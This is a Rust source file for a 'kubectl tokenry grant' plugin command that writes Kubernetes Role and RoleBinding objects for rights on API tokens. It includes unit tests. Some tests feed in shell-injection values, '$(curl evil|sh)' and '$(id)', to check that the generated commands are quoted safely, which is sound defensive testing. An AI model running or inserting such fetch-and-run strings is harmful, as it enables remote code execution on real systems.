//! `kubectl tokenry grant`: the Role and RoleBinding of a right that `kubectl create role` cannot write.

use std::collections::BTreeMap;

use clap::Args;
use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
use kube::{ResourceExt, core::ObjectMeta};

use super::{
    Error,
    advice::{self, quoted},
    connection::{Connection, Workplace},
    denial,
    lacking::{self, LackedRight},
    names::{self, Nameable, object},
    output,
    screen::remark,
    token::{free, granted::gives, pick, view},
};
use crate::{
    crd::{
        AccessPolicy, ApiToken, GROUP, Instance,
        name::ObjectNameForm,
        permission::RoleNameForm,
        subject::{SubjectForm, SubjectKind, Who, canonical},
        text::is,
    },
    outside::{
        Refusal, Why,
        desk::{Intent, UserWritten},
    },
    token::Digest,
};

const RBAC: &str = "rbac.authorization.k8s.io";

/// The right to revoke tokens of an organization: the flag, the verb and the resource.
const REVOKE: (&str, &str, &str) = ("--revoke", "revoke", "organizations");

/// The rights on a name: the flag, the verb and the resource.
const RIGHTS: [(&str, &str, &str); 5] = [
    ("--role", "assign", "roles"),
    ("--owner", "assign", "owners"),
    REVOKE,
    ("--policy", "assign", "policies"),
    ("--account", "use", "serviceaccounts"),
];

/// The resource of values.
const SECRETS: &str = "secrets";

/// The resources whose objects read Secrets or tell about tokens, by API group.
pub(crate) const WORKLOADS: [(&str, &[&str]); 3] = [
    ("", &["pods", "events"]),
    ("apps", &["deployments", "statefulsets", "daemonsets"]),
    ("batch", &["cronjobs", "jobs"]),
];

/// The message to a user that names a holder alone.
const NO_RIGHT: &str = "name a right: --create, --view, --workloads, --read TOKEN, --claim TOKEN, --role INSTANCE:ROLE, \
    --owner SUBJECT, --revoke ORGANIZATION, --revoke-token TOKEN, --policy INSTANCE:POLICY or --account NAME";

/// How the advice of an admission policy begins: a Role in JSON.
const ADVICE: &str = "; to allow it, apply this Role";

/// The words before the commands of an administrator.
pub(crate) const ALLOWS: &str = "; an administrator allows it by:";

/// A right that an admission policy asks for.
pub(crate) struct AdvisedRight<'a> {
    /// The text of the policy, without its Role in JSON.
    told: &'a str,
    /// The subject that lacks the right.
    who: &'a str,
    /// The owner of the object that the subject wants to change, if the right is about another owner.
    holder: Option<&'a str>,
    /// The right.
    pub(crate) right: LackedRight,
}

impl<'a> AdvisedRight<'a> {
    /// The right that the text of an admission policy asks for. `None` if no command grants it.
    pub(crate) fn of(told: &'a str) -> Option<Self> {
        let (told, _) = told.split_once(ADVICE)?;
        let (who, right) = told.split_once(" may not ")?;
        let (before, who) = who.rsplit_once(": ").unwrap_or(("", who));
        let (flag, verb, place) = RIGHTS.iter().find_map(|&(flag, verb, resource)| {
            Some((flag, verb, right.strip_prefix(&format!("{verb} {resource}.{GROUP}/"))?))
        })?;
        let (name, namespace) = place.rsplit_once(" in namespace ")?;
        let namespace = namespace.split(';').next().unwrap_or_default();
        let resource = right.strip_prefix(verb)?.trim_start().strip_suffix(place)?;
        let right = LackedRight::granted(verb, format!("{resource}{name}"), namespace, &[flag, name]);
        let holder = before.rsplit_once("is owned by ").map(|(_, holder)| holder).filter(|holder| *holder == name);
        Some(Self { told, who, holder, right })
    }

    /// The text of the policy, with the command that grants the right in place of a Role in JSON.
    pub(crate) fn told(&self) -> String {
        let (told, advice) = (self.told, lacking::advice(self.who, std::slice::from_ref(&self.right)));
        // The right to act for an owner permits more than one change.
        self.holder.map_or_else(
            || format!("{told}{advice}"),
            |holder| {
                let wide = format!(
                    "; {holder} may do it; or an administrator allows every change of the tokens of {holder} by:"
                );
                format!("{told}{}", advice.replacen(ALLOWS, &wide, 1))
            },
        )
    }
}

/// The command that gives rights to `who`, on a line of its own.
pub(crate) fn command(who: &str, words: &[String], namespace: &str) -> String {
    let words: Vec<_> = words.iter().map(|word| quoted(word)).collect();
    format!("\n  {} --apply", advice::command(&format!("grant {} {}", quoted(who), words.join(" ")), namespace))
}

#[derive(Args)]
pub(crate) struct GrantRole {
    /// Holder of the right: user:NAME, group:NAME or serviceaccount:NAMESPACE/NAME
    subject: String,
    /// Create, change and delete tokens and accounts of its own, and read Instances and policies
    #[arg(long)]
    create: bool,
    /// Read tokens, accounts, Instances and policies, and no value: for list, status, explain and verify
    #[arg(long)]
    view: bool,
    /// List Pods, workloads and Events: for plan, status and the questions before a change
    #[arg(long)]
    workloads: bool,
    /// Read this token and its value, in its Secret and no other one; the token may be created later
    #[arg(long, value_name = "TOKEN", add = names::of(Nameable::Token), value_parser = object)]
    read: Vec<String>,
    /// Read this token, and read and claim its value, which is shown once; to claim is to patch its Secret
    #[arg(long, value_name = "TOKEN", add = names::of(Nameable::Token), value_parser = object)]
    claim: Vec<String>,
    /// Give this role and no other one, as INSTANCE:ROLE, in the namespace of the Instance; INSTANCE:* is needed where
    /// no role is named
    #[arg(long, value_name = "INSTANCE:ROLE", add = names::of(Nameable::RoleOfInstance), value_parser = role)]
    role: Vec<String>,
    /// Name this owner, such as team:platform, and change its tokens
    #[arg(long, value_name = "SUBJECT", add = names::of(Nameable::Owner), value_parser = owner)]
    owner: Vec<String>,
    /// Read tokens, and revoke those of this organization
    #[arg(long, value_name = "ORGANIZATION", add = names::of(Nameable::Organization), value_parser = names::scope)]
    revoke: Vec<String>,
    /// Read this token, and revoke it, also if another owns it; this includes the right on its organization, in the
    /// namespace of its Instance
    #[arg(long, value_name = "TOKEN", add = names::of(Nameable::Token), value_parser = object)]
    revoke_token: Vec<String>,
    /// Add tokens to this AccessPolicy, as INSTANCE:POLICY, in the namespace of the Instance; INSTANCE alone: write
    /// policies that permit actions
    #[arg(long, value_name = "INSTANCE:POLICY", add = names::of(Nameable::PolicyOfInstance), value_parser = policy)]
    policy: Vec<String>,
    /// Make tokens that act as this ServiceAccount of tokenry.dev
    #[arg(long, value_name = "NAME", add = names::of(Nameable::Account), value_parser = object)]
    account: Vec<String>,
    /// Apply the objects; default: print them as YAML
    #[arg(long)]
    apply: bool,
    #[command(flatten)]
    connection: Connection,
}

/// Parses an owner. `*` means tokens that nobody owns.
fn owner(text: &str) -> Result<String, String> {
    if text == "*" { Ok(text.to_owned()) } else { names::owner(text) }
}

/// Parses `INSTANCE:ROLE`.
fn role(text: &str) -> Result<String, String> {
    let is_role =
        |(instance, role): (&str, &str)| is::<ObjectNameForm>(instance) && (role == "*" || is::<RoleNameForm>(role));
    let odd = || "must be the names of an Instance and of its role, as INSTANCE:ROLE, such as shop:viewer".to_owned();
    text.split_once(':').filter(|both| is_role(*both)).map(|_| text.to_owned()).ok_or_else(odd)
}

/// Parses `INSTANCE:POLICY` or `INSTANCE`.
fn policy(text: &str) -> Result<String, String> {
    let odd = "must be the names of an Instance and of an AccessPolicy, as INSTANCE:POLICY, such as shop:readers; or INSTANCE";
    let (instance, policy) = text.split_once(':').unwrap_or((text, "any"));
    let is_policy = is::<ObjectNameForm>(instance) && is::<ObjectNameForm>(policy);
    if is_policy { Ok(text.to_owned()) } else { Err(odd.to_owned()) }
}

impl GrantRole {
    pub(crate) fn main(self) -> Result<(), Error> {
        let holder = holder(&self.subject)?;
        if self.words().is_empty() {
            return Err(Error::Usage(NO_RIGHT.into()));
        }
        self.connection.work(async |place| {
            let all = self.all_rules(place).await?;
            // A right may be given before its Instance or the definitions exist, so these remarks never fail.
            if self.create && self.read.is_empty() && self.claim.is_empty() {
                remark(&unread(place).await);
            }
            self.unknown(place).await.iter().for_each(|text| remark(text));
            for (namespace, rules) in all {
                let (role, binding) = objects(&namespace, &holder, rules);
                if !self.apply {
                    output::print(std::slice::from_ref(&role))?;
                    output::print(std::slice::from_ref(&binding))?;
                    continue;
                }
                let name = role.metadata.name.clone().unwrap_or_default();
                let refused = |refusal| self.refused(place, refusal);
                let new_role = create(place, &role).await.map_err(refused)?;
                let new_binding = create(place, &binding).await.map_err(refused)?;
                let told = if new_role || new_binding { "were created" } else { "exist already" };
                remark(&format!("Role and RoleBinding {name} {told} in namespace {namespace}"));
            }
            Ok(())
        })
    }

    /// The flags of the rights on the command line, with their values.
    fn words(&self) -> Vec<String> {
        let switches = [("--create", self.create), ("--view", self.view), ("--workloads", self.workloads)];
        let named = [
            ("--read", &self.read),
            ("--claim", &self.claim),
            ("--role", &self.role),
            ("--owner", &self.owner),
            ("--revoke", &self.revoke),
            ("--revoke-token", &self.revoke_token),
            ("--policy", &self.policy),
            ("--account", &self.account),
        ];
        let switches = switches.into_iter().filter(|(_, is_given)| *is_given).map(|(flag, _)| flag.to_owned());
        let named = { named.into_iter() }
            .flat_map(|(flag, names)| names.iter().flat_map(move |name| [flag.to_owned(), name.clone()]));
        switches.chain(named).collect()
    }

    /// The error of a user that may not apply the objects. RBAC lets nobody give away rights that they lack.
    fn refused(&self, place: &Workplace, refusal: Refusal) -> Error {
        let cause = match refusal.why {
            Why::Forbidden(_) => denial::cause(&refusal),
            Why::Gone => return Error::no_namespace(&refusal.namespace),
            Why::Stale | Why::Invalid(_) | Why::Unauthenticated(_) | Why::Unavailable(_) => return refusal.into(),
        };
        let command = command(&self.subject, &self.words(), &place.namespace);
        Error::Refused(format!(
            "{cause}; let a cluster administrator run this, or another user with the verbs escalate and bind on \
             roles:{command}"
        ))
    }

    /// The names of the command line that mean nothing yet, in words, as far as the user may look for them.
    async fn unknown(&self, place: &Workplace) -> Vec<String> {
        let (home, mut unknown) = (&place.namespace, Vec::new());
        for named in self.role.iter().chain(&self.policy) {
            let (name, part) = named.split_once(':').unwrap_or((named, ""));
            let missing = |object: &str| format!("{object} does not exist; {named} counts once it does");
            let instance: Option<Instance> = match place.desk.find(home, name).await {
                Ok(None) => {
                    unknown.push(missing(&format!("Instance {home}/{name}")));
                    continue;
                }
                found => found.ok().flatten(),
            };
            let roles = instance.iter().flat_map(names::roles).collect::<Vec<_>>();
            let is_role = self.role.contains(named) && part != "*" && !roles.is_empty();
            if is_role && !roles.iter().any(|role| role == part) {
                unknown.push(format!("Instance {home}/{name} has no role {part}; it has {}", roles.join(", ")));
            }
            if self.policy.contains(named) && !part.is_empty() {
                let found = place.desk.find::<AccessPolicy>(home, part).await;
                unknown.extend(matches!(found, Ok(None)).then(|| missing(&format!("AccessPolicy {home}/{part}"))));
            }
        }
        unknown
    }

    /// The rules of each namespace. Those of the command's namespace come first.
    async fn all_rules(&self, place: &Workplace) -> Result<Vec<(String, Vec<PolicyRule>)>, Error> {
        let read = secrets(place, &self.read).await?;
        let claimed = secrets(place, &self.claim).await?;
        let mut revocable = BTreeMap::from([(place.namespace.clone(), self.revoke.clone())]);
        for name in &self.revoke_token {
            let (keeper, organization) = organization_of(place, name).await?;
            let who = &self.subject;
            remark(&format!(
                "{who} may then revoke {name}; the right is on its organization, {organization}, in namespace {keeper}, \
                 so {who} may also revoke each other token of {organization} that {who} may change"
            ));
            let organizations = revocable.entry(keeper).or_default();
            if !organizations.contains(&organization) {
                organizations.push(organization);
            }
        }
        let own = revocable.remove(&place.namespace).unwrap_or_default();
        let mut all = vec![(place.namespace.clone(), self.rules(&place.namespace, [&read, &claimed], &own))];
        let (_, verb, resource) = REVOKE;
        all.extend(
            revocable.into_iter().map(|(keeper, names)| (keeper, vec![rule(GROUP, &[resource], &names, &[verb])])),
        );
        Ok(all)
    }

    /// The rules of the command's namespace. `read` and `claimed` are the names of Secrets, and `revocable` those of
    /// organizations.
    fn rules(&self, namespace: &str, [read, claimed]: [&[String]; 2], revocable: &[String]) -> Vec<PolicyRule> {
        let mut rules = Vec::new();
        if self.create {
            let verbs = ["get", "list", "watch", "create", "update", "patch", "delete"];
            rules.push(rule(GROUP, &["apitokens", "serviceaccounts"], &[], &verbs));
            rules.push(rule(GROUP, &["instances", "accesspolicies"], &[], &["get", "list"]));
        }
        if self.view {
            let all = ["apitokens", "serviceaccounts", "instances", "accesspolicies"];
            rules.push(rule(GROUP, &all, &[], &["get", "list", "watch"]));
            // An Instance can admit namespaces by their labels.
            rules.push(rule("", &["namespaces"], &[namespace.to_owned()], &["get"]));
        }
        if self.workloads {
            rules.extend(WORKLOADS.map(|(group, resources)| rule(group, resources, &[], &["list"])));
        }
        let tokens = [&self.read[..], &self.claim].concat();
        if !tokens.is_empty() && !self.create {
            rules.push(rule(GROUP, &["apitokens"], &tokens, &["get"]));
        }
        // Admission lets the holder change nothing but the revocation of the tokens of others.
        if !self.revoke.is_empty() && !self.create {
            rules.push(rule(GROUP, &["apitokens"], &[], &["get", "list", "patch"]));
        }
        if !self.revoke_token.is_empty() && self.revoke.is_empty() && !self.create {
            rules.push(rule(GROUP, &["apitokens"], &self.revoke_token, &["get", "patch"]));
        }
        let of_values = [(read, &["get"][..]), (claimed, &["get", "patch"])];
        let of_values = of_values.into_iter().filter(|(names, _)| !names.is_empty());
        rules.extend(of_values.map(|(names, verbs)| rule("", &[SECRETS], names, verbs)));
        let named = [
            (RIGHTS[0], &self.role[..]),
            (RIGHTS[1], &self.owner),
            (REVOKE, revocable),
            (RIGHTS[3], &self.policy),
            (RIGHTS[4], &self.account),
        ];
        let named = named.into_iter().filter(|(_, names)| !names.is_empty());
        rules.extend(named.map(|((_, verb, resource), names)| rule(GROUP, &[resource], names, &[verb])));
        rules
    }
}

/// The remark about a right to create that comes alone. Some Instances give owners the right to read values.
async fn unread(place: &Workplace) -> String {
    let all = place.desk.list::<Instance>(Some(&place.namespace), None).await.ok();
    let giving = |all: &[Instance]| all.iter().filter(|one| gives(one)).map(ResourceExt::name_any).collect::<Vec<_>>();
    let unless = match all.filter(|all| !all.is_empty()).as_deref().map(giving).as_deref() {
        None => ", unless the Instance gives that right to owners (spec.ceiling: Members, by an operator with grants)"
            .to_owned(),
        Some([]) => String::new(),
        Some(names) => format!(", except of Instance {}, which gives that right to owners", names.join(", ")),
    };
    format!("this gives no right to read values: add --read TOKEN for each token{unless}")
}

/// The Role of a holder, and its RoleBinding.
fn objects(namespace: &str, holder: &Subject, rules: Vec<PolicyRule>) -> (Role, RoleBinding) {
    let digest = Digest::of(format!("{holder:?}{rules:?}")).to_string();
    let name = format!("tokenry-grant-{}", &digest[..10]);
    let metadata =
        ObjectMeta { name: Some(name.clone()), namespace: Some(namespace.to_owned()), ..ObjectMeta::default() };
    let role_ref = RoleRef { api_group: RBAC.into(), kind: "Role".into(), name };
    let role = Role { metadata: metadata.clone(), rules: Some(rules) };
    (role, RoleBinding { metadata, role_ref, subjects: Some(vec![holder.clone()]) })
}

/// The namespace of a token's Instance, and the organization in which the token is revoked there.
async fn organization_of(place: &Workplace, name: &str) -> Result<(String, String), Error> {
    let token = pick::one(place, name, pick::LOOKS).await?;
    let (keeper, organizations) = view::revocable_in(&token);
    let organization = organizations.first().map(|&name| name.to_owned());
    let unseen = || {
        Error::Missing(format!("ApiToken {}/{name} has no organization yet; is the operator running?", place.namespace))
    };
    Ok((keeper.to_owned(), organization.ok_or_else(unseen)?))
}

/// A rule about resources of an API group. Without names, it is about all objects.
fn rule(group: &str, resources: &[&str], names: &[String], verbs: &[&str]) -> PolicyRule {
    let owned = |words: &[&str]| words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>();
    PolicyRule {
        api_groups: Some(vec![group.to_owned()]),
        resources: Some(owned(resources)),
        resource_names: Some(names.to_vec()).filter(|names| !names.is_empty()),
        verbs: owned(verbs),
        ..PolicyRule::default()
    }
}

/// The Secrets of tokens. That of a token that does not exist yet will have its name.
async fn secrets(place: &Workplace, tokens: &[String]) -> Result<Vec<String>, Error> {
    let mut secrets = Vec::new();
    for name in tokens {
        let token: Option<ApiToken> = place.desk.find(&place.namespace, name).await?;
        let secret = token.map_or_else(|| name.clone(), |token| token.secret_name().to_owned());
        foreign(place, name, &secret).await?;
        secrets.push(secret);
    }
    Ok(secrets)
}

/// Succeeds unless the Secret of this token exists and holds no token. The right to it would open that Secret, and an
/// ApiToken can be named after any Secret. A user without the right to read the Secret only prints the grant.
async fn foreign(place: &Workplace, name: &str, secret: &str) -> Result<(), Error> {
    let Some(kind) = free::foreign_secret(place, secret).await? else { return Ok(()) };
    let namespace = &place.namespace;
    Err(Error::Missing(format!(
        "Secret {secret} in namespace {namespace} is of type {kind:?}, so it is not that of ApiToken {name} and holds \
         no token; give the token another name"
    )))
}

/// Creates an object. False if it exists already: its name is a digest of the holder and the rules.
async fn create<K: UserWritten>(place: &Workplace, object: &K) -> Result<bool, Refusal> {
    match place.desk.create(object, Intent::Do).await {
        Ok(_) => Ok(true),
        Err(refusal) if refusal.why == Why::Stale => Ok(false),
        Err(refusal) => Err(refusal),
    }
}

/// The holder of a right, as RBAC names it.
fn holder(subject: &str) -> Result<Subject, Error> {
    let odd = || {
        Error::Usage(format!(
            "{subject:?} cannot hold a right: give user:NAME, group:NAME or serviceaccount:NAMESPACE/NAME"
        ))
    };
    let subject = canonical(subject);
    let who = Who::of(&subject).filter(|_| is::<SubjectForm>(&subject)).ok_or_else(odd)?;
    let of = |kind: &str| Subject {
        api_group: Some(RBAC.into()),
        kind: kind.into(),
        name: who.name.into(),
        namespace: None,
    };
    match (who.kind, who.namespaced()) {
        (SubjectKind::User, _) => Ok(of("User")),
        (SubjectKind::Group, _) => Ok(of("Group")),
        (SubjectKind::ServiceAccount, Some((namespace, name))) => Ok(Subject {
            api_group: None,
            kind: "ServiceAccount".into(),
            name: name.into(),
            namespace: Some(namespace.into()),
        }),
        (SubjectKind::ServiceAccount | SubjectKind::Team | SubjectKind::Account | SubjectKind::Token, _) => Err(odd()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_missing_right_is_a_command_that_a_shell_reads() {
        let advised = |right: &str| {
            let told = format!("spec.x: user:a'b may not {right} in namespace n{ADVICE} and bind it: {{}}");
            AdvisedRight::of(&told).map(|advised| advised.told())
        };
        let told = advised("assign owners.tokenry.dev/team:x").unwrap();
        assert!(told.ends_with("\n  kubectl tokenry grant 'user:a'\\''b' --owner team:x -n n --apply"), "{told}");
        assert!(advised("use serviceaccounts.tokenry.dev/ci").unwrap().contains(" --account ci "));
        assert!(advised("assign policies.tokenry.dev/eem:p").unwrap().contains(" --policy eem:p "));
        assert!(advised("revoke organizations.tokenry.dev/north").unwrap().contains(" --revoke north "));
        assert_eq!(advised("create secrets"), None);
        let told = advised("assign owners.tokenry.dev/user:x in namespace $(curl evil|sh)").unwrap();
        assert!(told.ends_with(" --owner 'user:x in namespace $(curl evil|sh)' -n n --apply"), "{told}");
        let told = advised(&format!("assign owners.tokenry.dev/user:x in namespace $(id){ADVICE}")).unwrap();
        assert!(told.ends_with(" --owner user:x -n '$(id)' --apply"), "{told}");
    }

    #[test]
    fn the_owner_of_a_token_is_named_before_the_right_to_change_all_of_its_tokens() {
        let told = format!(
            "spec.owner: this ApiToken is owned by user:b: user:a may not assign owners.tokenry.dev/user:b in namespace n{ADVICE}"
        );
        let told = AdvisedRight::of(&told).unwrap().told();
        let wide = "; user:b may do it; or an administrator allows every change of the tokens of user:b by:\n  kubectl \
                    tokenry grant user:a --owner user:b -n n --apply";
        assert!(told.ends_with(wide), "{told}");
    }

    #[test]
    fn a_value_without_its_form_is_a_usage_error_that_shows_the_form() {
        let told = |args: &[&str]| {
            let line = ["tokenry", "grant", "user:a"].iter().chain(args);
            crate::cli::command().try_get_matches_from(line).map_err(|error| (error.exit_code(), error.to_string()))
        };
        for (flag, odd, form) in [
            ("--role", "admin", "INSTANCE:ROLE, such as shop:viewer"),
            ("--role", "shop:", "INSTANCE:ROLE, such as shop:viewer"),
            ("--role", "shop:Viewer", "INSTANCE:ROLE, such as shop:viewer"),
            ("--policy", "shop:a b", "INSTANCE:POLICY, such as shop:readers"),
            ("--owner", "", "must be user:NAME, group:NAME"),
            ("--owner", "alice", "must be user:NAME, group:NAME"),
            ("--owner", "token:a/b", "must be user:NAME, group:NAME"),
            ("--read", "Not_A_Name", "must be a name of lower-case letters"),
            ("--claim", "", "must be a name of lower-case letters"),
            ("--account", "a/b", "must be a name of lower-case letters"),
            ("--revoke", "a b", "must be letters, digits"),
        ] {
            let (code, text) = told(&[flag, odd]).unwrap_err();
            assert!(code == 2 && text.contains(form), "{flag} {odd}: {text}");
        }
        for (flag, well) in [
            ("--role", "shop:viewer"),
            ("--role", "shop:*"),
            ("--policy", "shop:readers"),
            ("--policy", "shop"),
            ("--owner", "team:platform"),
            ("--owner", "*"),
            ("--revoke", "North.1"),
        ] {
            assert!(told(&[flag, well]).is_ok(), "{flag} {well}");
        }
    }

    #[test]
    fn a_holder_is_one_that_rbac_knows() {
        let core = holder("serviceaccount:a/b").unwrap();
        assert_eq!((core.namespace.as_deref(), &*core.name), (Some("a"), "b"));
        assert_eq!(holder("user:system:serviceaccount:a:b").unwrap(), core);
        assert_eq!(holder("group:ops").unwrap().kind, "Group");
        for odd in
            ["alice", "team:x", "account:a/b", "user:", "user:*", "user:a\nb", "serviceaccount:b", "serviceaccount:A/b"]
        {
            assert!(holder(odd).is_err(), "{odd}");
        }
    }
}
